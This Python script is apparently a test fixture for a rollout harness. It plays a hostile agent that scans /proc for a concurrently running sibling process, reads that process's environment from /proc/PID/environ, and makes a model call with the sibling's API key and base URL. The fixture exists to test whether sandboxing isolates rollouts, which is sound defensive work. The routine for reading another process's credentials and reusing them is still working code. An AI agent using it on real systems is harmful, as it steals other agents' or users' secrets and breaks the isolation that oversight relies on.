"""A hostile agent that steals a concurrently running sibling's token. It makes one model call of its own,
then looks through /proc for its sibling (another process of this script with the same `marker`
argument and another TETHER_ROLLOUT_ID), reads the sibling's environment from /proc/PID/environ, and
makes a model call with the sibling's token on the sibling's base URL. Siblings meet through the task's
`dir`: each writes `<rollout>.done` there once it has tried, and stays until the other has too (where it
cannot write there, as in a sandbox, it does not wait). It prints one JSON line of what it managed.
Standard library only."""

import json
import os
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

STOLEN_SAYS = "stolen by the sibling"  # in the stolen call's prompt, for the test to look for
WAIT_S = 120.0  # how long it waits for the sibling to be done, once both have met

marker = sys.argv[1]
task = json.loads(os.environ["TETHER_TASK"])
own = os.environ["TETHER_ROLLOUT_ID"]
started = time.time()


def chat(base_url: str, token: str, content: str) -> int | str:
    body = {"model": "policy", "messages": [{"role": "user", "content": content}], "max_tokens": 4}
    request = urllib.request.Request(
        base_url.rstrip("/") + "/chat/completions",
        data=json.dumps(body).encode(),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status
    except urllib.error.HTTPError as exc:
        return exc.code
    except OSError as exc:
        return type(exc).__name__


def environ_of(pid: str) -> dict[str, str] | str:
    try:
        raw = Path(f"/proc/{pid}/environ").read_bytes()
    except OSError as exc:
        return type(exc).__name__
    return dict(entry.split("=", 1) for entry in raw.decode(errors="replace").split("\0") if "=" in entry)


def siblings() -> dict[str, dict[str, str] | str]:
    """Each other process of this script with this marker: its environment, or why it cannot be read."""
    found: dict[str, dict[str, str] | str] = {}
    for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if not any(arg.endswith(b"sibling_thief.py") for arg in argv) or marker.encode() not in argv:
            continue
        environ = environ_of(pid)
        if isinstance(environ, str) or environ.get("TETHER_ROLLOUT_ID") != own:
            found[pid] = environ
    return found


def put(path: Path, text: str) -> bool:
    try:
        partial = path.with_name(path.name + ".partial")
        partial.write_text(text)
        partial.replace(path)
    except OSError:
        return False
    return True


own_call = chat(os.environ["OPENAI_BASE_URL"], os.environ["OPENAI_API_KEY"], f"{own}'s own call")
report: dict[str, object] = {"rollout": own, "own_call": own_call, "processes": 0, "environ": None}
report |= {"sibling": None, "stolen_call": None}
deadline = time.monotonic() + float(task["look_s"])
while time.monotonic() < deadline:
    report["processes"] = sum(p.isdigit() for p in os.listdir("/proc"))
    found = siblings()
    if found:
        environ = next(iter(found.values()))
        report["environ"] = "read" if isinstance(environ, dict) else environ
        if isinstance(environ, dict) and "OPENAI_API_KEY" in environ:
            report["sibling"] = environ["TETHER_ROLLOUT_ID"]
            content = f"{STOLEN_SAYS} {own}"
            report["stolen_call"] = chat(environ["OPENAI_BASE_URL"], environ["OPENAI_API_KEY"], content)
        break
    time.sleep(0.05)
report["looked_s"] = round(time.time() - started, 3)

out = Path(task["dir"])
if put(out / f"{own}.done", ""):  # where siblings can meet: stay until the other one has tried too
    give_up = time.monotonic() + WAIT_S
    while len(list(out.glob("*.done"))) < 2 and time.monotonic() < give_up:
        time.sleep(0.05)
report["started"], report["ended"] = started, time.time()
print(json.dumps(report))
